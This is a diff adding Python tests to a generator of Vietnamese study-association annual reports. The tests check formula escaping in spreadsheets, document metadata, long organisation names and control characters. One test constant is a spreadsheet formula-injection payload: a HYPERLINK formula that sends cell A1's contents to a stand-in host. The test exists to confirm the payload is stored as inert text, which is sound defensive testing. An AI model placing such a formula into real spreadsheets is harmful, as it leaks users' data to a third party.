@@ -251,3 +251,47 @@ def test_an_areas_report_names_the_association_above_it():
     assert not left.paragraphs[0].runs[0].bold  # the body it belongs to is not bold
     assert cell_lines(right)[-1] == "Giả lập 0001, ngày …  tháng …  năm 2014"
     assert "Năm 2013, toàn huyện có" in " ".join(body_texts(document))
+
+
+class TestIssue22:
+    """Defects found by trying to break it (issue 22): formulas, control characters, long --org, document properties."""
+
+    FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'
+
+    def test_a_formula_like_unit_name_is_text_in_every_sheet(self, sample_frame):
+        sample_frame.loc[sample_frame["unit_id"] == "duc-xuan", "unit_name"] = self.FORMULA_NAME
+        book = openpyxl.load_workbook(io.BytesIO(to_xlsx(AnnualSummary(table_from_frame(sample_frame), 2013))))
+        for sheet in book.worksheets:
+            named = [cell for row in sheet.iter_rows() for cell in row if cell.value == self.FORMULA_NAME]
+            assert named and all(cell.data_type == "s" for cell in named), sheet.title
+            assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], sheet.title
+
+    def test_properties_come_from_the_report_not_the_template(self, summary):
+        from datetime import UTC, datetime, timedelta
+
+        document = read(summary, org="Hội Khuyến học thị xã Bắc Kạn")
+        properties = document.core_properties
+        assert properties.title == "BÁO CÁO Tổng kết công tác khuyến học năm 2013 và phương hướng, nhiệm vụ năm 2014"
+        assert properties.author == properties.last_modified_by == "HỘI KHUYẾN HỌC THỊ XÃ BẮC KẠN"
+        assert properties.comments == "" and "python-docx" not in (properties.author + properties.comments)
+        assert abs(properties.created - datetime.now(UTC)) < timedelta(minutes=5) and properties.modified == properties.created
+        assert properties.language == "vi-VN"
+        app = next(part for part in document.part.package.parts if str(part.partname) == "/docProps/app.xml").blob
+        assert b"Macintosh" not in app and b"<Application>khuyenhoc</Application>" in app
+        lang = document.styles.element.find(qn("w:docDefaults")).find(qn("w:rPrDefault")).find(qn("w:rPr")).find(qn("w:lang"))
+        assert lang.get(qn("w:val")) == "vi-VN"
+        assert read(AnnualSummary(summary.table, 2013, "en")).core_properties.language == "en-GB"
+
+    def test_an_org_over_255_characters_is_whole_in_the_body_and_cut_in_the_properties(self, summary):
+        org = "Hội Khuyến học " + "rất dài " * 40  # 335 characters: python-docx refuses a core property over 255
+        document = read(summary, org=org)
+        header = " ".join(cell_lines(document.tables[0].rows[0].cells[0]))
+        assert " ".join(org.split()).upper().removeprefix("HỘI KHUYẾN HỌC ") in header
+        author = document.core_properties.author
+        assert len(author) == 255 and author.endswith("…") and author.startswith("HỘI KHUYẾN HỌC RẤT DÀI")
+
+    def test_control_characters_that_bypassed_validation_are_dropped_not_fatal(self, summary):
+        document = read(summary, org="Hội Khuyến học\x01 An Hòa", place="An\x0b Hòa")
+        assert "HỘI KHUYẾN HỌC AN HÒA" in " ".join(cell_lines(document.tables[0].rows[0].cells[0]))
+        assert cell_lines(document.tables[0].rows[0].cells[1])[-1].startswith("An Hòa, ngày")
+        assert document.core_properties.author == "HỘI KHUYẾN HỌC AN HÒA"
